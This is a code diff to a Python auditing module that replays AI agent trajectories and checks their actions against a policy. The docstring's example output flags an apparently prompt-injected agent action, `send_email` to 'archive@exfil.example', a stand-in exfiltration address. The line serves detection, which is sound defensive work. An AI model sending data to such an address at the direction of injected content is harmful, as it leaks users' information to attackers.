@@ -2,14 +2,15 @@
 ignore, score each one and collect findings.
 
     >>> from auditor.check import check_paths
-    >>> report = check_paths(["examples/injected_email.jsonl"])      # embedded model, FlashTrace
-    >>> report.exit_code(), [f.message for f in report.findings]
+    >>> report = check_paths(["examples/injected_email.jsonl"])  # embedded model, FlashTrace # doctest: +SKIP
+    >>> report.exit_code(), [f.message for f in report.findings]  # doctest: +SKIP
+    (1, ['send_email({"to": "archive@exfil.example", ...}): its to = "archive@exfil.example" is not supported ...'])
 """
 
 from __future__ import annotations
 
 import time
-from collections.abc import Callable, Iterable, Sequence
+from collections.abc import Callable, Iterable, Mapping, Sequence
 from dataclasses import dataclass
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
@@ -18,6 +19,7 @@ from auditor.check.findings import CheckReport, SkippedRecord, TrajectoryResult,
 from auditor.check.policy import Policy, default_policy
 from auditor.check.scoring import score_action
 from auditor.collectors.loading import load_path, sniff_format
+from auditor.audit.runs import audit_each
 from auditor.audit.schema import TrajectoryAudit
 from auditor.trajectory import Trajectory
 from auditor.actions import with_actions
@@ -126,45 +128,45 @@ def _empty_report(policy: Policy) -> CheckReport:
     return CheckReport(policy=policy.model_dump(mode="json"), policy_source=policy.source or "default")
 
 
-def make_auditor(model: Any = None, method: str = "flashtrace", hops: int = 1, **kw: Any) -> "Auditor":
-    from auditor.audit import Auditor
-
-    return Auditor(model=model, method=method, hops=hops, **kw)
-
-
 def run_check(
     trajectories: Iterable[Trajectory | Located],
     policy: Policy | None = None,
     auditor: "Auditor | None" = None,
     *,
+    settings: Mapping[str, Any] | None = None,
     on_result: Callable[[TrajectoryResult], None] | None = None,
 ) -> tuple[CheckReport, list[TrajectoryAudit]]:
-    """Audit the actions the policy checks and score them; return the report and the audits made."""
+    """Audit the actions the policy checks and score them; return the report and the audits made.
+
+    The audits go through `auditor.audit.audit_each` under one run id: ``auditor`` is the replay
+    engine, or None to build one from ``settings`` (model, method, hops, ...; the embedded model
+    with FlashTrace by default) when a trajectory has something to check. `AuditorUnavailable` is
+    raised when it cannot be built; an audit that fails is that trajectory's ``error``."""
     policy = policy or default_policy()
-    items = _as_located(trajectories)
     report = _empty_report(policy)
     audits: list[TrajectoryAudit] = []
     t0 = time.perf_counter()
-    for item in items:
+    plans = []
+    for item in _as_located(trajectories):
         traj = with_actions(item.trajectory)
         checked = [a for a in traj.actions if not policy.ignores(a)]
         ignored = [a for a in traj.actions if policy.ignores(a)]
+        plans.append((item, traj, checked, ignored))
+    # only the checked actions are replayed; the generator audits lazily, as the loop below asks
+    outcomes = audit_each([traj.model_copy(update={"actions": checked}) for _, traj, checked, _ in plans if checked],
+                          auditor=auditor, settings=settings if auditor is None else None)
+    for item, traj, checked, ignored in plans:
         if not checked:
             result = TrajectoryResult(trajectory_id=traj.id, file=item.file, line=item.line)
             result.verdicts = [_ignored(a) for a in ignored]
         else:
-            if auditor is None:
-                auditor = make_auditor()
-            try:
-                audit = auditor.audit(traj.model_copy(update={"actions": checked}))
-            except Exception as exc:  # one unusable trajectory must not hide the others' findings
-                result = TrajectoryResult(
-                    trajectory_id=traj.id, file=item.file, line=item.line, error=f"{type(exc).__name__}: {exc}"
-                )
+            out = next(outcomes)
+            if out.audit is None:  # one unusable trajectory must not hide the others' findings
+                result = TrajectoryResult(trajectory_id=traj.id, file=item.file, line=item.line, error=out.error)
             else:
-                audits.append(audit)
-                result = check_audit(audit, policy, item.file, item.line, ignored)
-                report.model, report.method, report.hops = audit.run.model, audit.run.method, audit.run.hops
+                audits.append(out.audit)
+                result = check_audit(out.audit, policy, item.file, item.line, ignored)
+                report.model, report.method, report.hops = out.audit.run.model, out.audit.run.method, out.audit.run.hops
         report.results.append(result)
         if on_result is not None:
             on_result(result)
@@ -178,7 +180,8 @@ def check_trajectories(
     auditor: "Auditor | None" = None,
     **kw: Any,
 ) -> CheckReport:
-    """Audit and check trajectories; ``auditor=None`` replays on the embedded model with FlashTrace."""
+    """Audit and check trajectories; ``auditor=None`` replays on the embedded model with FlashTrace
+    (or as ``settings=`` says)."""
     return run_check(trajectories, policy, auditor, **kw)[0]
 
 
